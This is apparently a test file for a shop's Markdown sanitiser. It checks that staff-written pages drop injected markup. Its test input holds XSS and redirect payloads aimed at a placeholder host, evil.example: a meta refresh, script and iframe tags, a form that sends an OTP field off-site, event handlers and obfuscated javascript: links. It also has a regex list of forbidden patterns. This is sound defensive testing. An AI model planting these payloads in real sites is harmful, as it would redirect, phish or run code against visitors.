import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderStaffMarkdown } from '../../domain/content/staff-markdown';
import { databases, postForm, staffToken, startTestApp, type TestApp } from '../setup/test-app';

// What staff write in Markdown cannot become markup that acts on visitors: a
// <meta http-equiv=refresh> saved on /shipping once sent every visitor to
// another site. The public page and the back office's preview show the same,
// cleaned by an allow-list; the shop's own placeholders still work.

const ATTACK = [
  'Orders ship within two days.',
  '',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<script>alert("script")</script>',
  '<style>body{display:none}</style>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<form action="https://evil.example/steal"><input name="otp"><button>Go</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<img src="x" onerror="alert(\'img\')"> <svg onload="alert(\'svg\')"></svg>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Pay here</div>',
  '<p class="fixed inset-0" onclick="alert(\'click\')">Click me</p>',
  '',
  '[Script link](javascript:alert("js")) [Data link](data:text/html;base64,PHNjcmlwdD4=) [VB](vbscript:msgbox)',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a> <a href="&#106;avascript:alert(1)">entities</a> <a href=" javascript:alert(1)">space</a>',
  '',
  'See [the courier](https://courier.example/track) and [returns](/return) or <a href="//evil.example/x" rel="opener">protocol-relative</a>.',
  '',
  '{{delivery-charges}}',
  '',
  'Write to [us](mailto:care@example.com) or call [us](tel:+912012345678).',
].join('\n');

/** Things that must not appear in the cleaned HTML. */
const FORBIDDEN = [
  /<meta/i,
  /<script/i,
  /<style/i,
  /<iframe/i,
  /<form/i,
  /<input/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /\son[a-z]+=/i,
  /\sstyle=/i,
  /\sclass=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:text/i,
  /evil\.example/i,
  /alert\(/i,
  /display:none/i,
];

/** The staff-written part of a page: what is inside the prose-page block. */
function prose(html: string): string {
  const start = html.indexOf('<div class="prose-page');
  expect(start).toBeGreaterThan(-1);
  let depth = 0;
  const re = /<(\/?)div\b[^>]*>/g;
  re.lastIndex = start;
  for (let m = re.exec(html); m; m = re.exec(html)) {
    depth += m[1] ? -1 : 1;
    if (depth === 0) return html.slice(html.indexOf('>', start) + 1, m.index);
  }
  throw new Error('unclosed prose block');
}

describe('renderStaffMarkdown', () => {
  it('keeps what Markdown writes and drops everything that acts', () => {
    const html = renderStaffMarkdown(ATTACK);
    for (const bad of FORBIDDEN) expect(html).not.toMatch(bad);
    expect(html).toContain('<p>Orders ship within two days.</p>');
    expect(html).toContain('Pay here'); // the words stay, the box does not
    expect(html).toContain('<a href="https://courier.example/track" rel="noopener nofollow">the courier</a>');
    expect(html).toContain('<a href="/return">returns</a>');
    expect(html).toContain('<a href="mailto:care@example.com">us</a>');
    expect(html).toContain('<a href="tel:+912012345678">us</a>');
  });

  it('keeps headings, lists, tables, emphasis, code and pictures of the shop', () => {
    const md =
      '## Perks\n\n- **Health cover** — for family\n\n| A | B |\n|:--|--:|\n| 1 | 2 |\n\n`code` *em* ![Plot](/images/content/plot.jpg "Trial")\n\n3. third\n4. fourth';
    const html = renderStaffMarkdown(md);
    expect(html).toContain('<h2>Perks</h2>');
    expect(html).toContain('<ul>\n<li><strong>Health cover</strong> — for family</li>\n</ul>');
    expect(html).toContain('<th align="left">A</th>');
    expect(html).toContain('<td align="right">2</td>');
    expect(html).toContain('<code>code</code> <em>em</em> <img src="/images/content/plot.jpg" alt="Plot" title="Trial" />');
    expect(html).toContain('<ol start="3">');
  });
});

describe.each(databases)('staff Markdown on the site on %s', (kind) => {
  let t: TestApp;
  let content: string;
  beforeAll(async () => {
    t = await startTestApp(kind);
    content = await staffToken(t, 'content');
  });
  afterAll(() => t.close());

  const page = (path: string) => t.app.inject({ url: path, headers: { accept: 'text/html' } });
  const text = { title: 'Shipping policy', heading: 'Shipping policy', description: 'How orders travel.', body: ATTACK };

  it('saved on /shipping, shows the words and the charges table but no markup that acts, cached or not', async () => {
    expect((await page('/shipping')).statusCode).toBe(200); // in the page cache before the change
    const url = '/admin/content/pages/shipping';
    const saved = await postForm(t, url, { ...text, version: '0', intent: 'save' }, content);
    expect(saved.statusCode).toBe(200);

    for (let i = 0; i < 2; i++) {
      // the first answer is rendered, the second comes from the page cache
      const res = await page('/shipping');
      expect(res.statusCode).toBe(200);
      expect(res.headers.refresh).toBeUndefined();
      const body = prose(res.body);
      for (const bad of FORBIDDEN) expect(body).not.toMatch(bad);
      expect(body).toContain('Orders ship within two days.');
      expect(body).toContain('rel="noopener nofollow"');
      expect(body).toContain('<table tabindex="0">'); // {{delivery-charges}} became the zones' table (reached by Tab on a phone, where it scrolls)
      expect(body).not.toContain('{{delivery-charges}}');
      expect(res.body).not.toMatch(/http-equiv="refresh"/i);
    }
  });

  it('previews exactly what the public page shows', async () => {
    const url = '/admin/content/pages/shipping';
    const preview = await postForm(t, url, { ...text, version: '1', intent: 'preview' }, content, 'text/html');
    expect(preview.statusCode).toBe(200);
    const previewed = prose(preview.body.slice(preview.body.indexOf('id="preview-title"')));
    for (const bad of FORBIDDEN) expect(previewed).not.toMatch(bad);
    expect(previewed).toBe(prose((await page('/shipping')).body));
    expect(previewed).toContain('<table tabindex="0">');
  });

  it('a preview of a form that fails its checks still shows nothing that acts', async () => {
    const url = '/admin/content/pages/shipping';
    const res = await postForm(t, url, { ...text, heading: '', version: '1', intent: 'preview' }, content, 'text/html');
    for (const bad of [/<meta http-equiv/i, /<script>alert/i, /<iframe/i]) expect(res.body).not.toMatch(bad);
  });

  it('the careers page and a section page are cleaned the same way', async () => {
    for (const [slug, path] of [
      ['career', '/career'],
      ['aboutus/journey', '/aboutus/journey'],
    ] as const) {
      const url = `/admin/content/pages/${encodeURIComponent(slug)}`;
      const body = `Intro.\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n<script>alert(1)</script>\n\n## Perks\n\n- **Cover** — for all\n`;
      const saved = await postForm(t, url, { ...text, body, version: '0', intent: 'save' }, content);
      expect(saved.statusCode).toBe(200);
      const res = await page(path);
      expect(res.statusCode).toBe(200);
      expect(res.body).not.toMatch(/<meta http-equiv/i);
      expect(res.body).not.toContain('evil.example');
      expect(res.body).not.toContain('<script>alert(1)');
      expect(res.body).toContain('Intro.');
    }
  });
});
